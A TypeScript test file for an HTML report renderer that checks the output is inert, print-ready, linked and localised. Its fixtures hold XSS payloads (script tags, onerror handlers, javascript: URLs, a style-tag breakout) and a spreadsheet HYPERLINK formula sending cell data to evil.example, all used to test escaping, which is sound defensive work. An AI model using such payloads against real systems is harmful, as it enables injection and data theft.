import { parse, type HTMLElement } from 'node-html-parser';
import { expectGolden } from '../../../test/fixtures/reports/golden';
import { outcomeFixture } from '../../../test/fixtures/reports/outcome-document.fixture';
import type { Language, OutcomeDocument } from '../outcome-document';
import { escapeHtml, renderHtml } from './html';

const html = (doc: OutcomeDocument = outcomeFixture()): string => renderHtml(doc).toString('utf8');
const dom = (doc?: OutcomeDocument): HTMLElement => parse(html(doc));

/** Everything that could run code, load something or navigate away. */
function expectInert(root: HTMLElement): void {
  expect(
    root.querySelectorAll('script, iframe, object, embed, link, img, base, form'),
  ).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const [name, value] of Object.entries(element.attributes)) {
      expect(name.toLowerCase().startsWith('on') ? `${name} on <${element.tagName}>` : name).toBe(
        name,
      );
      if (name === 'href') expect(value).toMatch(/^#[a-z0-9-]+$/);
      expect(value.toLowerCase()).not.toContain('javascript:');
    }
  }
}

describe('renderHtml', () => {
  it('matches the golden file', () => {
    expectGolden(html(), 'outcome-document.en.golden.html');
  });

  it('is self-contained and inert: no script, no handler, no javascript: URL, no resource', () => {
    const text = html();
    const root = parse(text);
    expectInert(root);
    expect(root.querySelectorAll('style')).toHaveLength(1);
    expect(text).not.toMatch(/@import|url\(/i);
    expect(
      root.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
    ).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:");
  });

  it('shows every piece of hostile submitted text as text', () => {
    const root = dom();
    const article = root.querySelector('#recommendation-5');
    expect(article?.querySelector('h3')?.text).toBe(
      'Recommendation 5. =HYPERLINK("https://evil.example/?q="&A1,"Municipal identity cards") <script>alert(1)</script>',
    );
    const body =
      article
        ?.querySelectorAll('p')
        .map((p) => p.text)
        .join('\n') ?? '';
    expect(body).toContain('<img src=x onerror=alert(1)>');
    expect(body).toContain('[the New York model](javascript:alert(1))');
    expect(body).toContain('<a href="javascript:alert(2)">this page</a>');
    expect(root.querySelector('#details-5 dl')?.text).toContain('@Civic Tech <b>Lab</b>');
    expect(root.querySelector('#summaries')?.text).toContain('<script>alert("summary")</script>');
  });

  it('cannot be broken out of its <style> element by the conference title', () => {
    const doc = outcomeFixture();
    doc.meta.title = 'Cities </style><script>alert(1)</script><style> and migration';
    const root = dom(doc);
    expectInert(root);
    expect(root.querySelector('h1')?.text).toBe(doc.meta.title);
    expect(root.querySelector('style')?.text).toContain('\\3C /style\\3E ');
  });

  it('is print-ready: A4 pages, page numbers, page breaks before chapters and annexes', () => {
    const css = dom().querySelector('style')?.text ?? '';
    expect(css).toContain('@media print');
    expect(css).toContain('size: A4;');
    expect(css).toContain(
      '@bottom-center { content: "Page " counter(page) " of " counter(pages) "";',
    );
    expect(css).toMatch(/section\.chapter, section\.annex \{ break-before: page; \}/);
  });

  it('draws the participation chart as an inline SVG with one bar per constituency', () => {
    const svg = dom().querySelector('#annex-c svg');
    expect(svg?.querySelector('title')?.text).toBe('Bar chart of participants by constituency');
    expect(svg?.querySelectorAll('rect')).toHaveLength(8);
    const widths = svg?.querySelectorAll('rect').map((r) => Number(r.getAttribute('width'))) ?? [];
    expect(Math.max(...widths)).toBe(560);
    expect(svg?.text).toContain('Local government');
  });

  it('links the contents and the cross-references to their targets', () => {
    const root = dom();
    const targets = root.querySelectorAll('a').map((a) => a.getAttribute('href')?.slice(1) ?? '');
    expect(targets.length).toBeGreaterThan(10);
    for (const id of targets) expect(root.querySelector(`#${id}`)).not.toBeNull();
  });

  it.each<[Language, string, string[]]>([
    ['en', 'en-GB', ['Contents', 'Chapter 1. Data', 'Annex A — Recommendations noted']],
    ['fr', 'fr-FR', ['Table des matières', 'Chapitre 1. Données', 'Annexe B — Programme']],
    ['es', 'es-ES', ['Índice', 'Capítulo 1. Datos', 'Anexo D — Metodología']],
  ])('prints headings in the document language (%s)', (language, tag, headings) => {
    const root = dom(outcomeFixture(language));
    expect(root.querySelector('html')?.getAttribute('lang')).toBe(tag);
    const h2 = root.querySelectorAll('h2').map((h) => h.text);
    expect(h2).toEqual(expect.arrayContaining(headings));
  });

  it('escapes the five HTML-significant characters', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    );
  });
});
